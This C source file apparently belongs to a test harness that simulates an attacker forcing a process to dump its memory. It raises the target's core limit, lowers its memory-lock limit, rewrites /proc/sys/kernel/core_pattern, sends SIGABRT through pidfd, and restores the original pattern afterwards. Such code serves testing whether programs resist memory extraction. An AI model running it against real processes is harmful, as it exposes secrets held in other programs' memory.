/* What an attacker does to get a process dumped. */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#ifndef SYS_pidfd_send_signal
#define SYS_pidfd_send_signal 424
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif

#define CORE_PATTERN	"/proc/sys/kernel/core_pattern"
/* CORENAME_MAX_SIZE of the kernel, and room to see that it is no more. */
#define PATTERN_MAX	256
#define DUMPED_MS	5000

int attack_raise_core_limit(uint32_t pid)
{
	struct rlimit limit;

	if (prlimit((pid_t)pid, RLIMIT_CORE, NULL, &limit) < 0)
		return -errno;
	/* Beyond the hard limit only with CAP_SYS_RESOURCE. */
	if (limit.rlim_max == 0)
		limit.rlim_max = RLIM_INFINITY;
	limit.rlim_cur = limit.rlim_max;
	return prlimit((pid_t)pid, RLIMIT_CORE, &limit, NULL) < 0 ? -errno : 0;
}

int attack_lower_lock_limit(uint32_t pid)
{
	struct rlimit limit;

	if (prlimit((pid_t)pid, RLIMIT_MEMLOCK, NULL, &limit) < 0)
		return -errno;
	/* Where nothing may be locked already, the hard limit is what is left to lower, or to raise. */
	if (limit.rlim_cur > 0)
		limit.rlim_cur = 0;
	else
		limit.rlim_max = limit.rlim_max > 0 ? limit.rlim_max - 1 : 1;
	return prlimit((pid_t)pid, RLIMIT_MEMLOCK, &limit, NULL) < 0 ? -errno : 0;
}

/* Waits until nobody holds the other end, whatever became of them, and writes the pattern back. */
static void guard_pattern(int alive, int setting, const char *pattern, size_t len)
{
	sigset_t all;
	char byte;

	sigfillset(&all);
	sigprocmask(SIG_SETMASK, &all, NULL);
	/* What ends the attacker's whole group must not end this. */
	setsid();
	while (read(alive, &byte, 1) < 0 && errno == EINTR)
		;
	_exit(pwrite(setting, pattern, len, 0) == (ssize_t)len ? 0 : 1);
}

static int dump(uint32_t pid, int setting, const char *pattern)
{
	struct pollfd ended = { .events = POLLIN };
	size_t len = strlen(pattern);
	int err = 0;

	ended.fd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (ended.fd < 0)
		return -errno;
	if (pwrite(setting, pattern, len, 0) != (ssize_t)len)
		err = errno ? -errno : -EIO;
	else if (syscall(SYS_pidfd_send_signal, ended.fd, SIGABRT, NULL, 0) < 0)
		err = -errno;
	else if (poll(&ended, 1, DUMPED_MS) == 0)
		err = -ETIMEDOUT;
	close(ended.fd);
	return err;
}

int attack_dump_to(uint32_t pid, const char *pattern)
{
	char before[PATTERN_MAX];
	int setting, alive[2], err, status = 0;
	ssize_t len;
	pid_t guard;

	setting = open(CORE_PATTERN, O_RDWR | O_CLOEXEC);
	if (setting < 0)
		return -errno;
	len = pread(setting, before, sizeof(before), 0);
	if (len < 0 || len == sizeof(before)) {
		err = len < 0 ? -errno : -EOVERFLOW;
		goto out;
	}
	if (pipe2(alive, O_CLOEXEC) < 0) {
		err = -errno;
		goto out;
	}
	guard = fork();
	if (guard == 0) {
		close(alive[1]);
		guard_pattern(alive[0], setting, before, (size_t)len);
	}
	close(alive[0]);
	err = guard < 0 ? -errno : dump(pid, setting, pattern);
	close(alive[1]);
	while (guard > 0 && waitpid(guard, &status, 0) < 0 && errno == EINTR)
		;
	if (!err && status != 0)
		err = -EIO;
out:
	close(setting);
	return err;
}
